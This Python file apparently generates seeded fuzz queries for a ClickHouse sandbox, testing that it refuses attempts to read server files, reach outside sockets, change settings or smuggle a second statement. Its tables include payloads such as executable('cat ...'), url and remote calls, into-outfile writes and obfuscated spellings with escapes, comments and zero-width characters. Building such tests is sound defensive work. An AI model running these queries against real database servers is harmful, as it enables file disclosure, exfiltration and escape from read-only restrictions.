# ruff: noqa: E501 - tables of attacks: a line for each would be four pages
"""Queries that try to read a file or reach a socket, from a seed: what an attacker would write, and what nobody would.

A target (a file, a socket) behind a way to it (table function, table by path, scalar function, dictionary, view,
output, setting), in a shape (sub-query, CTE, join, IN, union, array join, parameter), in a spelling (quotes, escapes,
case, comments, heredocs, spaces, a broken end).
"""

import random
from collections.abc import Iterator

#: Ways to content, with {file}, {host} and {port}.
WAYS = (
    "file('{file}','LineAsString')", "file('{file}', LineAsString, 'l String')", "fileCluster('c','{file}','LineAsString')",
    "url('http://{host}:{port}/','LineAsString','l String')", "urlCluster('c','http://{host}:{port}/','CSV','l String')",
    "remote('{host}:{port}','system.one')", "remoteSecure('{host}:{port}', system, one)", "cluster('{host}', system.one)",
    "s3('http://{host}:{port}/b/k','LineAsString')", "gcs('http://{host}:{port}/b/k','CSV')", "hdfs('hdfs://{host}:{port}/f','CSV')",
    "mysql('{host}:{port}','d','t','u','p')", "postgresql('{host}:{port}','d','t','u','p')", "mongodb('{host}:{port}','d','c','u','p','a Int8')",
    "redis('{host}:{port}','k','k String, v String')", "sqlite('{file}','t')", "odbc('DSN=x','t')", "jdbc('x','t')",
    "executable('cat {file}','LineAsString','l String')", "python('{file}')", "Python(secret)", "input('a String')",
    "iceberg('http://{host}:{port}/b')", "deltaLake('http://{host}:{port}/b')", "hudi('http://{host}:{port}/b')",
    "azureBlobStorage('http://{host}:{port}','c','b')", "merge('default','.*')", "merge('.*','.*')", "loop('{file}')",
    "view(select * from file('{file}','LineAsString'))", "dictionary('d')", "generateRandom('a String')", "fuzzJSON('{file}')",
    "format(LineAsString, file('{file}'))", "null('a String')", "mergeTreeIndex('{database}','trades_raw')", "ytsaurus('http://{host}:{port}','x','y','a Int8')",
    "`{file}`", "default.`{file}`", "\"default\".\"{file}\"", "_overlay.`{file}`", "`http://{host}:{port}/`", "default.`http://{host}:{port}/x`",
    "system.query_log", "system.processes", "system.stack_trace", "system.users", "system.environment", "system.detached_parts",
    "information_schema.tables", "system.server_settings", "system.text_log", "system.macros", "system.named_collections",
    # Harmless: if no query ran, the refusals would prove nothing.
    "{database}.trades_raw", "{database}.orderbook_events", "(select 1 as l)",
)  # fmt: skip
#: Expressions that read by themselves.
EXPRESSIONS = (
    "file('{file}')", "(select * from file('{file}','LineAsString'))", "dictGet('d','v',1)", "joinGet('d.j','v',1)", "hasColumnInTable('{host}','d','t','c')",
    "getSetting('x')", "hostName()", "getServerSetting('x')", "sleep(1)", "addressToLine(1)", "demangle('x')", "catboostEvaluate('{file}',1)",
    "1 in default.`{file}`", "1 in `{file}`", "tuple(1) in file('{file}')", "exists(select * from url('http://{host}:{port}/'))",
    "evalMLMethod(1,1)", "aiClassify('{file}')", "getClientHTTPHeader('x')", "currentUser()", "initializeAggregation('file','{file}')",
    "arrayMap(x -> file(x), ['{file}'])", "arrayReduce('file', ['{file}'])", "executeQuery('{file}')", "structureToProtobufSchema('{file}')",
    "count()", "toString(1)",
)  # fmt: skip
SHAPES = (
    "explain optimize = 1 select * from {way}", "explain header = 1, graph = 1 select * from {way}",
    # Fails late, when its first row is under way: what stands there must not become part of the next query.
    "select if(number = 0, $$select 1) ; select * from {way} ; select * from (select 1$$, if(intDiv(1, toInt64(number) - 140000) = 7, 'x', '')) from numbers(200000) format TSVRaw",
    "select * from {way}", "select count() from {way} as f", "select (select any(l) from {way})", "with q as (select * from {way}) select * from q",
    "select 1 where 1 in (select * from {way})", "select * from {database}.trades_raw t join {way} f on 1", "select * from system.one, {way}",
    "select 1 union all select * from {way}", "select * from (select * from (select * from {way}))", "select * from {way} final sample 1/2",
    "explain plan select * from {way}", "explain ast select * from {way}", "explain pipeline select * from {way}", "describe {way}",
    "describe table {way}", "show create table {way}", "exists table {way}", "create view {database}.x as select * from {way}",
    "create table {database}.x engine=Log as select * from {way}", "create dictionary {database}.d (a Int8) primary key a source(http(url 'http://{host}:{port}/')) layout(flat()) lifetime(1)",
    "insert into function {way} select 1", "insert into {database}.sink_marks select * from {way}", "select * from {way} into outfile '{file}.out'",
    "select * from {way} settings readonly=0", "select 1 settings format_schema='{file}' format Protobuf", "select 1 format Template settings format_template_resultset='{file}'",
    "select 1; select * from {way}", "select 1), {way} as f, (select 1", "select * from (select 1) as a, {way}", "select 1 -- \n union all select * from {way}",
    "select {expression}", "select 1 where {expression}", "select 1 order by {expression}", "select 1 having {expression}", "with {expression} as x select x",
    "select * from {database}.trades_raw where {expression}", "select sum({expression}) over (order by 1)", "select [1] as a array join [{expression}] as b",
    "system reload dictionaries", "backup table {database}.trades_raw to File('{file}.b')", "set readonly=0", "use default", "attach table x from '{file}' (a Int8) engine=Log",
    "select * from {{t:Identifier}}", "select {{t:Identifier}}", "select * from default.{{t:Identifier}}", "kill query where 1", "select * from {way} format RawBLOB",
)  # fmt: skip


def queries(
    seed: int, count: int, file: str, host: str, port: int, database: str
) -> Iterator[tuple[str, dict[str, str]]]:
    """(query, parameters), the same for the same seed."""
    dice = random.Random(seed)
    names = {"file": file, "host": host, "port": str(port), "database": database}
    for _ in range(count):
        way, expression, shape = dice.choice(WAYS), dice.choice(EXPRESSIONS), dice.choice(SHAPES)
        text = shape.format(way=way.format(**names), expression=expression.format(**names), **names)
        for _ in range(dice.randrange(3)):
            text = dice.choice(SPELLINGS)(text, dice)
        yield (
            text,
            {"t": dice.choice([file, "default." + file, f"{database}.trades_raw", "system.query_log", f"a\\n{file}"])},
        )


def _quoted(text: str, dice: random.Random) -> str:
    """A function's name in quotes, or with escapes in them."""
    for name in ("file", "url", "remote", "s3", "merge"):
        if f"{name}(" in text:
            spelled = dice.choice(
                [f"`{name}`", f'"{name}"', f"`\\x{ord(name[0]):02x}{name[1:]}`", f'"{name[0]}\\{name[1:]}"']
            )
            return text.replace(f"{name}(", f"{spelled}(")
    return text


def _heredoc(text: str, dice: random.Random) -> str:
    return text.replace("'", dice.choice(["$$", "$x$", '"']))


def _commented(text: str, dice: random.Random) -> str:
    comment = dice.choice(
        ["/**/", "/* ' */", "-- x\n", "#! x\n", "/*/* */*/", "\t", "\n", "\r\n", "\x0b", "\xa0", "\u200b"]
    )
    return (
        text.replace(dice.choice([" ", "("]), f" {comment} ", dice.randrange(1, 4))
        if dice.random() < 0.7
        else comment + text
    )


def _cased(text: str, dice: random.Random) -> str:
    return "".join(c.upper() if dice.random() < 0.5 else c for c in text)


def _broken(text: str, dice: random.Random) -> str:
    at = dice.randrange(len(text) + 1)
    return (
        text[:at]
        + dice.choice(["'", '"', "`", ")", "(", ";", "\\", "\x00", "\n", "--", "/*", "{{", "}}", "$$"])
        + text[at:]
    )


def _wrapped(text: str, dice: random.Random) -> str:
    return dice.choice(
        [
            "({})",
            "select * from ({})",
            "explain {}",
            "{} format JSON",
            "{};",
            "with z as ({}) select * from z",
            "{} as `a\n TableIdentifier kalshi.trades`",
        ]
    ).replace("{}", text)


def _spoofed(text: str, dice: random.Random) -> str:
    """A name with lines in it that look like a tree."""
    return text.replace("select", "select 1 as `x (children 1)\n ExpressionList`,", 1)


SPELLINGS = (_quoted, _heredoc, _commented, _cased, _broken, _wrapped, _spoofed)
